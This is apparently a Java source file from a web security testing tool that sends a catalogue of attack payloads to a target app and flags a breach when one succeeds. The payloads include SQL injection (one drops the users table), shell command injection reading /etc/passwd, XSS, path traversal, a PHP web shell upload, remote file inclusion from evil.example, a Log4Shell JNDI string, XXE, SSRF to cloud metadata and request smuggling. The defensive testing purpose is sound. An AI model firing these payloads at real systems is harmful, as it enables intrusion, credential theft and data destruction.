package io.vitrine.siege;

import static io.vitrine.siege.Target.encoded;

import io.vitrine.siege.Target.Reply;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;

/** The attacks that go through parameters, bodies, headers and files. */
final class Arsenal {

  private static final String CRITICAL = "critical";
  private static final String HIGH = "high";
  private static final String MEDIUM = "medium";
  private static final String LOW = "low";

  private static final String BOUNDARY = "siege-boundary";

  private Arsenal() {}

  static List<Attack> all() {
    List<Attack> attacks = new ArrayList<>();
    sql(attacks);
    commands(attacks);
    scripts(attacks);
    files(attacks);
    disclosure(attacks);
    denial(attacks);
    others(attacks);
    attacks.addAll(People.all());
    return attacks;
  }

  private static Attack attack(
      String name, String group, String kind, String severity, Attack.Deed deed) {
    return new Attack(name, group, List.of(kind), severity, deed);
  }

  private static void sql(List<Attack> attacks) {
    String group = "SQL injection";
    attacks.add(
        attack(
            "UNION in a search",
            group,
            "sql_injection",
            CRITICAL,
            target -> {
              Reply reply =
                  target.ask(
                      "/api/search?query="
                          + encoded("x' UNION SELECT username, password_hash FROM users--"));
              if (reply.text().contains("$2a$") || reply.text().contains("password_hash\":\"")) {
                throw new Breach("hashes of passwords came back");
              }
            }));
    attacks.add(
        attack(
            "Sign-in by a tautology",
            group,
            "sql_injection",
            CRITICAL,
            target -> target.signIn("admin' OR '1'='1' --", "x").signsNobodyIn()));
    attacks.add(
        attack(
            "Second statement that drops a table",
            group,
            "sql_injection",
            CRITICAL,
            target -> {
              target.ask("/api/users?q=" + encoded("x'; DROP TABLE users; --"));
              if (target.ask("/api/users").status() != 200) {
                throw new Breach("the accounts are gone");
              }
            }));
    attacks.add(
        attack(
            "Waiting in the database",
            group,
            "sql_injection",
            CRITICAL,
            target -> {
              Reply reply =
                  target.ask(
                      "/api/values?field=country&q="
                          + encoded("FR' AND (SELECT 1 FROM (SELECT SLEEP(7))a)-- -"));
              if (reply.took().compareTo(Duration.ofSeconds(6)) > 0) {
                throw new Breach("the database waited");
              }
            }));
    attacks.add(
        attack(
            "Blind comparison in a filter",
            group,
            "sql_injection",
            CRITICAL,
            target -> {
              String right =
                  target.ask("/api/values?field=country&q=" + encoded("zz' OR 1=1 -- ")).text();
              String wrong =
                  target.ask("/api/values?field=country&q=" + encoded("zz' OR 1=2 -- ")).text();
              if (!right.equals(wrong)) {
                throw new Breach("a condition changed the answer");
              }
            }));
    attacks.add(
        attack(
            "Files read through the SQL console",
            group,
            "sql_injection",
            LOW,
            target ->
                target
                    .post("/api/sql", "{\"sql\":\"select * from read_csv('/etc/passwd')\"}")
                    .isRefused()));
  }

  private static void commands(List<Attack> attacks) {
    String group = "Command injection";
    attacks.add(
        attack(
            "Command behind a semicolon",
            group,
            "command_injection",
            CRITICAL,
            target ->
                target.ask("/api/logs/recent?log_type=" + encoded("error; cat /etc/passwd"))));
    attacks.add(
        attack(
            "Command in a substitution",
            group,
            "command_injection",
            CRITICAL,
            target -> {
              Reply reply = target.signIn("a$(sleep 7)`id`", "x");
              reply.signsNobodyIn();
            }));
    attacks.add(
        attack(
            "Function of the shell in a header",
            group,
            "command_injection",
            CRITICAL,
            target ->
                target.send(
                    "GET",
                    "/",
                    null,
                    Map.of("User-Agent", "() { :;}; /bin/bash -c 'cat /etc/passwd'"))));
  }

  private static void scripts(List<Attack> attacks) {
    String group = "Cross-site scripting";
    attacks.add(
        attack(
            "Script in a parameter of a page",
            group,
            "cross_site_scripting",
            HIGH,
            target ->
                target
                    .get("/logs/search?q=" + encoded("<script>alert(1)</script>"))
                    .doesNotRun("<script>alert(1)")));
    attacks.add(
        attack(
            "Handler in a path",
            group,
            "cross_site_scripting",
            HIGH,
            target ->
                target
                    .get("/x%3Cimg%20src=x%20onerror=alert(1)%3E")
                    .doesNotRun("onerror=alert(1)")));
    attacks.add(
        attack(
            "Script that is stored",
            group,
            "cross_site_scripting",
            HIGH,
            target -> {
              String name = "<svg onload=alert(document.cookie)>";
              Reply reply =
                  target.post(
                      "/api/logs/search/save",
                      Target.JSON.writeValueAsString(
                          Map.of("name", name, "filters", Map.of("query", "a"))));
              reply.doesNotRun(name);
              if (!reply.refused()) {
                target.send(
                    "DELETE",
                    "/api/logs/search/saved/" + reply.json().path("id").asString(""),
                    null,
                    Target.bearer(target.token()));
              }
            }));
    attacks.add(
        attack(
            "Address that is a script",
            group,
            "cross_site_scripting",
            HIGH,
            target ->
                target
                    .get("/sign-in?next=" + encoded("javascript:alert(document.domain)"))
                    .doesNotRun("javascript:alert")));
  }

  private static void files(List<Attack> attacks) {
    String group = "Files";
    attacks.add(
        attack(
            "Folders up in the path",
            group,
            "path_traversal",
            HIGH,
            target ->
                target
                    .raw(
                        "GET /../../../../etc/passwd HTTP/1.1\r\nHost: "
                            + target.host()
                            + "\r\nConnection: close\r\n\r\n")
                    .isRefused()));
    attacks.add(
        attack(
            "Folders up, encoded twice",
            group,
            "path_traversal",
            HIGH,
            target -> target.get("/assets/x?file=%252e%252e%252f%252e%252e%252fetc%252fpasswd")));
    attacks.add(
        attack(
            "Program as an upload",
            group,
            "web_shell",
            CRITICAL,
            target -> upload(target, "shell.php", "<?php system($_GET['cmd']); ?>")));
    attacks.add(
        attack(
            "Upload with a name that leads elsewhere",
            group,
            "malicious_upload",
            HIGH,
            target -> upload(target, "../../../../tmp/siege.jsp", "{\"message\":\"siege\"}")));
    attacks.add(
        attack(
            "Wrapper of PHP",
            group,
            "local_file_inclusion",
            HIGH,
            target ->
                target.get(
                    "/index?page="
                        + encoded("php://filter/convert.base64-encode/resource=index.php"))));
    attacks.add(
        attack(
            "Program of another server",
            group,
            "remote_file_inclusion",
            HIGH,
            target -> target.get("/index?page=" + encoded("http://evil.example/shell.txt?"))));
    attacks.add(
        attack(
            "File of Windows",
            group,
            "path_traversal",
            HIGH,
            target -> target.get("/download?name=" + encoded("..\\..\\..\\windows\\win.ini"))));
  }

  private static void upload(Target target, String name, String content) throws Exception {
    String body =
        "--"
            + BOUNDARY
            + "\r\nContent-Disposition: form-data; name=\"file\"; filename=\""
            + name
            + "\"\r\nContent-Type: application/octet-stream\r\n\r\n"
            + content
            + "\r\n--"
            + BOUNDARY
            + "--\r\n";
    Reply reply =
        target.send(
            "POST",
            "/api/logs/upload",
            body,
            Map.of(
                "Authorization",
                "Bearer " + target.token(),
                "Content-Type",
                "multipart/form-data; boundary=" + BOUNDARY));
    Reply run = target.get("/uploads/shell.php?cmd=id");
    if (run.status() == 200 && run.text().contains("uid=")) {
      throw new Breach("the upload runs");
    }
    if (!reply.refused() && Files.exists(Path.of("/tmp/siege.jsp"))) {
      throw new Breach("the upload was written outside of its folder");
    }
  }

  private static void disclosure(List<Attack> attacks) {
    String group = "Information disclosure";
    attacks.add(
        attack(
            "Hidden files",
            group,
            "sensitive_file_probe",
            MEDIUM,
            target -> {
              for (String path :
                  List.of("/.env", "/.git/config", "/.aws/credentials", "/backup.sql")) {
                target.get(path).isRefused();
              }
            }));
    attacks.add(
        attack(
            "Inner pages of frameworks",
            group,
            "sensitive_file_probe",
            MEDIUM,
            target -> {
              for (String path :
                  List.of(
                      "/actuator/env", "/actuator/heapdump", "/server-status", "/phpinfo.php")) {
                Reply reply = target.get(path);
                if (reply.status() == 200
                    && (reply.type().contains("json") || reply.text().contains("PATH="))) {
                  throw new Breach(path + " was answered");
                }
              }
            }));
    attacks.add(
        attack(
            "Trace of the request",
            group,
            "method_abuse",
            LOW,
            target ->
                target
                    .raw(
                        "TRACE / HTTP/1.1\r\nHost: "
                            + target.host()
                            + "\r\nX-Secret: 1\r\nConnection: close\r\n\r\n")
                    .isRefused()));
    attacks.add(
        attack(
            "Error that tells of the inside",
            group,
            "nosql_injection",
            CRITICAL,
            target ->
                target
                    .postUnknown(
                        "/api/auth/login",
                        "{\"username\":{\"$ne\":null},\"password\":[{\"$gt\":1}]}")
                    .isRefused()));
    attacks.add(
        attack(
            "Scanner that says its name",
            group,
            "scanner",
            LOW,
            target ->
                target.send(
                    "GET",
                    "/",
                    null,
                    Map.of("User-Agent", "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None)"))));
  }

  private static void denial(List<Attack> attacks) {
    String group = "Denial of service";
    attacks.add(
        attack(
            "Body that is too large",
            group,
            "denial_of_service",
            MEDIUM,
            target ->
                target
                    .postUnknown(
                        "/api/auth/login", "{\"username\":\"" + "a".repeat(200_000) + "\"}")
                    .isRefused()));
    attacks.add(
        attack(
            "Deep document",
            group,
            "denial_of_service",
            MEDIUM,
            target ->
                target.post("/api/query", "[".repeat(5_000) + "]".repeat(5_000)).isRefused()));
    attacks.add(
        attack(
            "Hundreds of parameters",
            group,
            "denial_of_service",
            MEDIUM,
            target -> {
              StringBuilder query = new StringBuilder("/?a=1");
              for (int i = 0; i < 600; i++) {
                query.append("&p").append(i).append("=1");
              }
              target.get(query.toString());
            }));
    attacks.add(
        attack(
            "Many ranges of one file",
            group,
            "denial_of_service",
            MEDIUM,
            target ->
                target.send(
                    "GET",
                    "/",
                    null,
                    Map.of("Range", "bytes=0-1,0-2,0-3,0-4,0-5,0-6,0-7,0-8,0-9"))));
    attacks.add(
        attack(
            "Search that would take for ever",
            group,
            "denial_of_service",
            MEDIUM,
            target -> {
              String query = "(a*".repeat(2_000);
              Reply reply =
                  target.post(
                      "/api/logs/search",
                      Target.JSON.writeValueAsString(Map.of("query", query + "{".repeat(100))));
              if (reply.took().compareTo(Duration.ofSeconds(6)) > 0) {
                throw new Breach("the search took " + reply.took());
              }
            }));
  }

  private static void others(List<Attack> attacks) {
    String group = "Further classes";
    value(
        attacks,
        "Operator of a document store",
        "nosql_injection",
        CRITICAL,
        "[$where]",
        "this.password.length>0");
    value(attacks, "Filter of a directory", "ldap_injection", HIGH, "", "*)(uid=*))(|(uid=*");
    value(
        attacks,
        "Path in a document",
        "xpath_injection",
        HIGH,
        "",
        "' or count(/*)=1 or //user[position()=1]/password='");
    value(attacks, "Template that calculates", "template_injection", CRITICAL, "", "{{7*7}}${7*7}");
    value(
        attacks,
        "Name lookup of a logger",
        "name_lookup",
        CRITICAL,
        "",
        "${jndi:ldap://127.0.0.1:1389/a}");
    value(
        attacks,
        "Object in a parameter",
        "deserialisation",
        CRITICAL,
        "",
        "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwAC");
    value(
        attacks,
        "Code in a parameter",
        "code_injection",
        CRITICAL,
        "",
        "__import__('os').system('id')");
    value(
        attacks,
        "Prototype of all objects",
        "prototype_pollution",
        HIGH,
        "",
        "__proto__[role]=admin");
    value(
        attacks,
        "Address of the cloud's metadata",
        "server_side_request_forgery",
        HIGH,
        "",
        "http://169.254.169.254/latest/meta-data/");
    value(
        attacks,
        "Header behind a line",
        "header_injection",
        MEDIUM,
        "",
        "x\r\nSet-Cookie: admin=1");
    attacks.add(
        attack(
            "Entity of another file",
            group,
            "xml_external_entity",
            HIGH,
            target ->
                target
                    .send(
                        "POST",
                        "/api/query",
                        "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>",
                        Map.of(
                            "Content-Type",
                            "application/xml",
                            "Authorization",
                            "Bearer " + target.token()))
                    .isRefused()));
    attacks.add(
        attack(
            "Way to another site",
            group,
            "open_redirect",
            MEDIUM,
            target -> {
              Reply reply = target.get("/sign-in?next=" + encoded("https://evil.example/login"));
              if (reply.location().contains("evil.example")) {
                throw new Breach("it leads to another site");
              }
            }));
    attacks.add(
        attack(
            "Schema of GraphQL",
            group,
            "graphql_abuse",
            MEDIUM,
            target ->
                target
                    .postUnknown("/graphql", "{\"query\":\"{__schema{types{name}}}\"}")
                    .isRefused()));
    attacks.add(
        attack(
            "Known web shell",
            group,
            "web_shell",
            CRITICAL,
            target -> target.get("/uploads/c99.php?cmd=whoami")));
    attacks.add(
        attack(
            "Two lengths of one request",
            group,
            "request_smuggling",
            HIGH,
            target -> {
              Reply reply =
                  target.raw(
                      "POST /api/auth/login HTTP/1.1\r\nHost: "
                          + target.host()
                          + "\r\nContent-Length: 6\r\nTransfer-Encoding: xchunked\r\n\r\n0\r\n\r\nGET /api/users HTTP/1.1\r\nHost: x\r\n\r\n");
              if (reply.text().indexOf("HTTP/1.1", 9) > 0) {
                throw new Breach("a second request was answered");
              }
            }));
    attacks.add(
        attack(
            "Negative amount",
            group,
            "parameter_tampering",
            MEDIUM,
            target -> target.post("/api/experiments/plan", "{\"price\":\"-100\"}").isRefused()));
    attacks.add(
        attack(
            "A limit passed by by codes in the path",
            group,
            "protocol_abuse",
            LOW,
            target -> {
              String body = "{\"username\":\"" + "x".repeat(20_000) + "\"}";
              if (target.post("/%61pi/a%75th/login", body).status() != 413) {
                throw new Breach("another spelling of the path had another limit");
              }
            }));
    attacks.add(
        attack(
            "What is no HTTP",
            group,
            "protocol_abuse",
            LOW,
            target ->
                target
                    .raw(
                        "GET /a|b{ HTTP/1.1\r\nHost: "
                            + target.host()
                            + "\r\nConnection: close\r\n\r\n")
                    .isRefused()));
  }

  private static void value(
      List<Attack> attacks,
      String name,
      String kind,
      String severity,
      String suffix,
      String value) {
    attacks.add(
        attack(
            name,
            "Further classes",
            kind,
            severity,
            target -> {
              Reply reply =
                  target.ask(
                      "/api/values?field=country&" + encoded("q" + suffix) + "=" + encoded(value));
              if (reply.text().contains("\"49\"") || reply.cookies().contains("admin=1")) {
                throw new Breach("the value was run");
              }
            }));
  }
}
